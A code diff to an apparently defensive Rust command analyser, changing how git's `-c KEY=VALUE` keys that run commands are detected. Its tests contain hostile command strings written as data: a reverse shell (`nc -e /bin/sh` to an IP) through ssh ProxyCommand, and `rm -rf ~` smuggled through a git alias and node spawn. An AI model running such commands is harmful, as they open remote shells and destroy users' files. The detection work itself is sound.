@@ -576,10 +576,6 @@ const HELPER_KEYS: &[&str] = &[
     "proxycommand=",
     "localcommand=",
     "knownhostscommand=",
-    "core.sshcommand=",
-    "core.fsmonitor=",
-    "core.askpass=",
-    "core.pager=",
     "--rsh=",
     "--rsh-command=",
     "--use-compress-program=",
@@ -600,7 +596,14 @@ fn helper_command<'a>(cmd: &str, a: &'a str, next: Option<&'a str>) -> Option<&'
     // `-o V` / `-oV` (ssh, scp, sftp, sshfs) and `-c V` (git) carry K=V.
     let kv = match a {
         "-o" if matches!(cmd, "ssh" | "scp" | "sftp" | "sshfs" | "autossh") => next?,
-        "-c" if cmd == "git" => next?,
+        // `git -c KEY=VALUE`: git's own list of keys that run commands.
+        "-c" if cmd == "git" => {
+            let (k, v) = next?.split_once('=')?;
+            return git_key_command(
+                &k.to_ascii_lowercase(),
+                v.trim_matches(|c| c == '\'' || c == '"'),
+            );
+        }
         "-e" if cmd == "rsync" => return next.filter(|v| !v.trim().is_empty()),
         "--rsh" if cmd == "rsync" => return next.filter(|v| !v.trim().is_empty()),
         _ => a.strip_prefix("-o").filter(|_| cmd != "git").unwrap_or(a),
@@ -632,8 +635,19 @@ pub fn git_config_command(seg: &Segment) -> Option<(String, String)> {
         .filter(|a| !a.starts_with('-'))
         .collect();
     let (key, value) = (ops.first()?.to_ascii_lowercase(), ops.get(1)?.as_str());
+    let command = git_key_command(&key, value)?;
+    Some((key, command.to_string()))
+}
+
+/// The command git runs for configuration `key` (lower-cased, dotted:
+/// `core.sshcommand`, `alias.x`, `filter.lfs.clean`) set to `value`, if it
+/// runs one: a credential helper or alias starting with `!`,
+/// core.sshCommand, core.pager, core.editor, core.fsmonitor, core.askPass,
+/// diff.external, gpg.program, sequence.editor, filter/merge/diff drivers.
+/// One list for `git config`, `git -c` and configuration files.
+pub fn git_key_command<'a>(key: &str, value: &'a str) -> Option<&'a str> {
     let bang = value.strip_prefix('!');
-    let command = match key.as_str() {
+    let command = match key {
         "credential.helper" => bang,
         "core.sshcommand" | "core.pager" | "core.editor" | "core.fsmonitor" | "core.askpass"
         | "diff.external" | "gpg.program" | "sequence.editor" | "core.hookspath" => {
@@ -649,7 +663,7 @@ pub fn git_config_command(seg: &Segment) -> Option<(String, String)> {
         }
         _ => None,
     }?;
-    (!command.trim().is_empty()).then(|| (key, command.to_string()))
+    (!command.trim().is_empty()).then_some(command)
 }
 
 /// The inline program of `python -c`, `perl -e`, `node -e`, `php -r`,
@@ -2468,6 +2482,9 @@ mod tests {
         assert!(all("ssh -o ProxyCommand='nc -e /bin/sh 1.2.3.4 9' h")
             .contains("nc -e /bin/sh 1.2.3.4 9"));
         assert!(all("git -c core.sshCommand='curl x' pull").contains("curl x"));
+        // The same key list as `git config` (`git_key_command`): `!` aliases too.
+        assert!(all("git -c alias.x='!rm -rf ~' x").contains("rm -rf ~"));
+        assert_eq!(cmds("git -c user.name='rm -rf ~' commit").len(), 1);
         assert!(all("rsync -e 'sh -c id' a b:").contains("sh -c id"));
         assert!(all("node -e 'spawn(\"sh\", [\"-c\", \"rm -rf ~\"])'").contains("rm -rf ~"));
         // Array subscripts in arithmetic run their substitution.
